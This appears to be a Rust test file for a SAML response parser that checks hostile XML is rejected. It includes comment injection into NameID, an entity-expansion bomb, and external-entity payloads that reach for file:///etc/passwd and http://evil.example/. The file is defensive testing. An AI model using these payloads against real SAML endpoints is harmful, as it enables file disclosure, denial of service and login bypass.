//! Attacks on the way from a form's value to a tree.

use super::*;

fn good() -> String {
    idp().respond_xml(&ANSWER, &Tweaks::none())
}

/// Inserts into the text of a signed document, before an ending that occurs in it.
fn with(before: &str, what: &str) -> String {
    let xml = good();
    let at = xml.find(before).unwrap();
    format!("{}{what}{}", &xml[..at], &xml[at..])
}

/// The canonical text of a NameID is the same with a comment, so the signature is good; a reader that stops at the comment sees
/// another name (CVE-2017-11427 and its kin).
#[test]
fn comments_in_the_name() {
    for at in [
        "@example.com</saml:NameID>",
        "</saml:NameID>",
        "</saml:Issuer><ds:Signature ",
        "</saml:AttributeValue>",
    ] {
        refused!(judge(&with(at, "<!-- -->")), SamlError::Forbidden { what: "a comment" });
    }
    refused!(
        judge(&format!("<!-- x -->{}", good())),
        SamlError::Forbidden { what: "a comment" }
    );
}

#[test]
fn processing_instructions_and_cdata() {
    refused!(
        judge(&with("@example.com</saml:NameID>", "<?x?>")),
        SamlError::Forbidden {
            what: "a processing instruction"
        }
    );
    refused!(
        judge(&with("@example.com</saml:NameID>", "<![CDATA[]]>")),
        SamlError::Forbidden {
            what: "a CDATA section"
        }
    );
    refused!(
        judge(&format!("<?xml-stylesheet href=\"x\"?>{}", good())),
        SamlError::Forbidden { .. }
    );
}

#[test]
fn document_types_and_entities() {
    let bomb = "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;\">]>";
    for doctype in [
        bomb,
        "<!DOCTYPE x SYSTEM \"file:///etc/passwd\">",
        "<!DOCTYPE x [<!ENTITY e SYSTEM \"http://evil.example/\">]>",
        "<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://evil.example/\"> %p;]>",
        "<!DOCTYPE x [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>",
        "<!doctype x>",
    ] {
        for prolog in ["", "<?xml version=\"1.0\"?>", "\n"] {
            refused!(
                judge(&format!("{prolog}{doctype}{}", good())),
                SamlError::Forbidden {
                    what: "a document type"
                }
            );
        }
    }
    refused!(
        judge(&with("@example.com</saml:NameID>", "&e;")),
        SamlError::Malformed { .. }
    );
}

#[test]
fn deep_wide_and_large_documents() {
    refused!(
        judge(&with("</saml:NameID>", &"<a>".repeat(20_000))),
        SamlError::TooLarge { what: "levels" }
    );
    let nested = format!("{}{}", "<a>".repeat(20_000), "</a>".repeat(20_000));
    refused!(judge(&nested), SamlError::TooLarge { what: "levels" });
    refused!(
        judge(&with("</samlp:Status>", &"<a/>".repeat(20_000))),
        SamlError::TooLarge { what: "elements" }
    );
    refused!(
        judge(&with("</samlp:Status>", &"x".repeat(300_000))),
        SamlError::TooLarge { what: "bytes" }
    );
    let attributes = (0..1000)
        .map(|number| format!("a{number}=\"\""))
        .collect::<Vec<_>>()
        .join(" ");
    refused!(
        judge(&with("</samlp:Status>", &format!("<a {attributes}/>"))),
        SamlError::TooLarge { what: "attributes" }
    );
    refused!(
        judge_base64(&"A".repeat(1_000_000)),
        SamlError::TooLarge { what: "bytes" }
    );
}

/// A long namespace, declared once and used often, would be written out at each use.
#[test]
fn canonicalization_does_not_amplify() {
    let uses = "<n:a/>".repeat(5_000);
    let xml = idp().respond_xml(&ANSWER, &Tweaks::none());
    let xml = xml.replace(
        "<samlp:Response ",
        &format!("<samlp:Response xmlns:n=\"urn:{}\" ", "n".repeat(100_000)),
    );
    let xml = xml.replace("</saml:Conditions>", &format!("{uses}</saml:Conditions>"));
    refused!(
        judge(&xml),
        SamlError::TooLarge {
            what: "canonical bytes"
        }
    );
}

#[test]
fn base64_oddities() {
    let text = idp().respond(&ANSWER, &Tweaks::none());
    judge_base64(&text).unwrap();
    // Forms and mail wrap lines.
    let lines: Vec<_> = text
        .as_bytes()
        .chunks(76)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    let wrapped = lines.join("\r\n");
    judge_base64(&wrapped).unwrap();
    for odd in ["", "=", "A", "AAA", "====", "PD94=", "!", "PHg+\0", "\u{e9}"] {
        assert!(judge_base64(odd).is_err(), "{odd}");
    }
    for odd in [
        format!("{text}A"),
        format!("{text}===="),
        format!("{text}{text}="),
        format!("={text}"),
        format!("\u{feff}{text}"),
        text.replacen('P', "-", 1),
        format!("data:text/xml;base64,{text}"),
    ] {
        refused!(judge_base64(&odd), SamlError::Malformed { .. });
    }
    // Bits that encode nothing must be zero, or one text would have several encodings.
    refused!(judge_base64("PHgvPh=="), SamlError::Malformed { .. });
    // XML that is not encoded at all.
    refused!(judge_base64(&good()), SamlError::Malformed { .. });
}

#[test]
fn texts_that_are_not_utf8_or_not_xml() {
    refused!(
        judge_base64(&xml::to_base64(b"\xff\xfe<x/>")),
        SamlError::Malformed { .. }
    );
    let utf16: Vec<u8> = good().encode_utf16().flat_map(u16::to_le_bytes).collect();
    assert!(judge_base64(&xml::to_base64(&utf16)).is_err());
    for odd in [
        "x",
        "<x",
        "<x>",
        "<x/><y/>",
        "<x a=1/>",
        "<a:x/>",
        "<x a='' a=''/>",
        "<x>\0</x>",
        "{}",
    ] {
        refused!(judge(odd), SamlError::Malformed { .. });
    }
    for xml in [
        format!("{}x", good()),
        format!("{}<x/>", good()),
        good().replace("</saml:NameID>", "</saml:NameId>"),
    ] {
        refused!(judge(&xml), SamlError::Malformed { .. });
    }
}

/// Every place is cut once: no panic, and never an assertion.
#[test]
fn truncations_and_flipped_bytes_never_pass() {
    let xml = idp().respond_xml(&ANSWER, &Tweaks::none().sign(Sign::Response));
    for at in (0..xml.len()).step_by(7) {
        assert!(judge(&xml[..at]).is_err(), "{at}");
        let mut bytes = xml.clone().into_bytes();
        bytes[at] ^= 1;
        if let Ok(assertion) = judge_base64(&xml::to_base64(&bytes)) {
            // KeyInfo is not read, so it may be anything.
            let info = xml.find("<ds:KeyInfo").unwrap()..xml.find("</ds:KeyInfo").unwrap();
            assert!(info.contains(&at), "{at}");
            assert_eq!(assertion.name_id.value, "ann@example.com");
        }
    }
}
